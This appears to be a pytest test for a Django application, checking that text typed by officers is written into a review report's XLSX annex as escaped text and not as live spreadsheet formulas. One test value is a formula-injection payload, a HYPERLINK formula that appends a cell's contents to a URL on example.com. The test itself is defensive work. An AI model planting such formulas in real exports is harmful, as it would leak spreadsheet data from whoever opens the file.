"""What officers typed reaches the review report's XLSX annex as text, never as a formula a spreadsheet runs."""

from io import BytesIO

import pytest
from openpyxl import load_workbook

from bordertwin.core.services import save_record

from .test_documents import download

pytestmark = pytest.mark.django_db


def test_formulas_typed_into_a_delivery_are_text_in_the_annex(client, review):
    cows = review.cows_delivery
    cows.item = '=HYPERLINK("http://example.com/?leak="&A1,"Bò nái")'
    cows.giver_name = "=1+2"
    cows.recipient_group = "- 1+1"
    save_record(cows, acting_user=review.world.admin)
    response = download(client, review, "xlsx")
    assert response.status_code == 200
    workbook = load_workbook(BytesIO(response.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    row = next(r for r in workbook.worksheets[0].iter_rows(min_row=2, values_only=True) if "HYPERLINK" in str(r[3]))
    assert row[3] == "'" + cows.item
    assert (row[9], row[10]) == ("'=1+2", "'- 1+1")
    assert row[4] == 9 and row[6] == 1200000000  # numbers stay numbers
